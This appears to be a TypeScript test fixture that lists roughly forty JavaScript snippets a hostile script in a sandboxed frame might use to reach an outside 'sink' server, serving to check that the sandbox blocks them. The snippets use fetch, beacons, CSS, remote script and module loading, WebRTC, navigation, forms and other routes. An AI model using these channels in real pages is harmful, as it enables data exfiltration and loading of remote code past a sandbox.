/** What hostile code may try in a frame to reach a server; plain JavaScript that knows the server as `sink` and `port`. */
export interface Attack {
  name: string;
  script: string;
}

const link = (rel: string, more = "") =>
  `const l = document.createElement("link"); l.rel = "${rel}"; l.href = sink + "/${rel}"; ${more} document.head.append(l);`;
/** `css` is an expression, so that it can name the sink. */
const styled = (css: string) =>
  `const s = document.createElement("style"); s.textContent = ${css}; document.head.append(s);
   const d = document.createElement("div"); d.className = "leak"; d.textContent = "leak"; document.body.append(d);`;

export const ATTACKS: Attack[] = [
  { name: "fetch", script: `fetch(sink + "/fetch", { mode: "no-cors" }).catch(() => 0);` },
  {
    name: "XMLHttpRequest",
    script: `const x = new XMLHttpRequest(); x.open("GET", sink + "/xhr"); x.send();`,
  },
  { name: "WebSocket", script: `new WebSocket(sink.replace("http", "ws") + "/socket");` },
  { name: "EventSource", script: `new EventSource(sink + "/events");` },
  { name: "beacon", script: `navigator.sendBeacon(sink + "/beacon", "x");` },
  {
    name: "keepalive fetch",
    script: `fetch(sink + "/keep", { keepalive: true, method: "POST", mode: "no-cors" }).catch(() => 0);`,
  },
  { name: "image", script: `new Image().src = sink + "/image";` },
  {
    name: "svg image",
    script: `document.body.insertAdjacentHTML("beforeend", '<svg width="9" height="9"><image href="' + sink + '/svg" width="9" height="9"/></svg>');`,
  },
  {
    name: "video and audio",
    script: `document.body.insertAdjacentHTML("beforeend", '<video autoplay muted src="' + sink + '/video"></video><audio preload="auto" src="' + sink + '/audio"></audio>');`,
  },
  {
    name: "object and embed",
    script: `document.body.insertAdjacentHTML("beforeend", '<object data="' + sink + '/object"></object><embed src="' + sink + '/embed">');`,
  },
  { name: "background in CSS", script: styled(`'.leak { background: url(' + sink + '/background) }'`) },
  { name: "import in CSS", script: styled(`'@import url(' + sink + '/import.css);'`) },
  {
    name: "font in CSS",
    script: styled(
      `'@font-face { font-family: leak; src: url(' + sink + '/font.woff2) } .leak { font-family: leak }'`,
    ),
  },
  { name: "stylesheet", script: link("stylesheet") },
  { name: "prefetch", script: link("prefetch") },
  { name: "preload", script: link("preload", `l.as = "fetch"; l.crossOrigin = "anonymous";`) },
  { name: "modulepreload", script: link("modulepreload") },
  {
    name: "script",
    script: `const s = document.createElement("script"); s.src = sink + "/script.js"; document.head.append(s);`,
  },
  {
    name: "script with the digest of the runtime",
    script: `const own = document.scripts[0]?.textContent ?? ""; crypto.subtle?.digest("SHA-256", new TextEncoder().encode(own)).then((sum) => {
      const s = document.createElement("script"); s.src = sink + "/digest.js"; s.crossOrigin = "anonymous";
      s.integrity = "sha256-" + btoa(String.fromCharCode(...new Uint8Array(sum))); document.head.append(s); });`,
  },
  { name: "import()", script: `import(sink + "/module.js").catch(() => 0);` },
  {
    name: "worker",
    script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + sink + "/worker', { mode: 'no-cors' })"])));`,
  },
  {
    name: "frame inside",
    script: `const f = document.createElement("iframe"); f.src = sink + "/inside"; document.body.append(f);`,
  },
  {
    name: "frame from text",
    script: `const f = document.createElement("iframe"); f.srcdoc = "<img src='" + sink + "/srcdoc'><meta http-equiv='refresh' content='0;url=" + sink + "/refresh'><script>fetch('" + sink + "/srcdoc-script')</scr" + "ipt>"; document.body.append(f);`,
  },
  {
    name: "frame from data",
    script: `const f = document.createElement("iframe"); f.src = "data:text/html,<img src='" + sink + "/data'>"; document.body.append(f);`,
  },
  {
    name: "speculation rules",
    script: `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [sink + "/speculation"], eagerness: "immediate" }] }); document.head.append(s);`,
  },
  {
    name: "WebRTC",
    script: `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + port }] }); p.createDataChannel("x"); p.createOffer().then((offer) => p.setLocalDescription(offer));`,
  },
  {
    name: "WebRTC over TCP",
    script: `const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1:" + port + "?transport=tcp", username: "u", credential: "c" }] }); p.createDataChannel("x"); p.createOffer().then((offer) => p.setLocalDescription(offer));`,
  },
  {
    name: "WebRTC of a frame inside",
    script: `const f = document.createElement("iframe"); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + port }] }); p.createDataChannel("x"); p.createOffer().then((offer) => p.setLocalDescription(offer));`,
  },
  {
    name: "WebTransport",
    script: `new WebTransport(sink.replace("http:", "https:") + "/transport").ready.catch(() => 0);`,
  },
  { name: "own address", script: `location.href = sink + "/own";` },
  {
    name: "own address by refresh",
    script: `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + sink + "/meta"; document.head.append(m);`,
  },
  {
    name: "own address by link",
    script: `const a = document.createElement("a"); a.href = sink + "/link"; a.ping = sink + "/ping"; document.body.append(a); a.click();`,
  },
  { name: "address of the page", script: `top.location.href = sink + "/top";` },
  {
    name: "address of the page by link",
    script: `const a = document.createElement("a"); a.href = sink + "/toplink"; a.target = "_top"; document.body.append(a); a.click();`,
  },
  {
    name: "form",
    script: `const f = document.createElement("form"); f.action = sink + "/form"; f.method = "post"; document.body.append(f); f.submit();`,
  },
  {
    name: "form into the page",
    script: `const f = document.createElement("form"); f.action = sink + "/topform"; f.target = "_top"; document.body.append(f); f.submit();`,
  },
  { name: "popup", script: `window.open(sink + "/popup");` },
  {
    name: "download",
    script: `const a = document.createElement("a"); a.href = sink + "/download"; a.download = "x"; document.body.append(a); a.click();`,
  },
  { name: "fetchLater", script: `fetchLater(sink + "/later", { activateAfter: 0 });` },
];
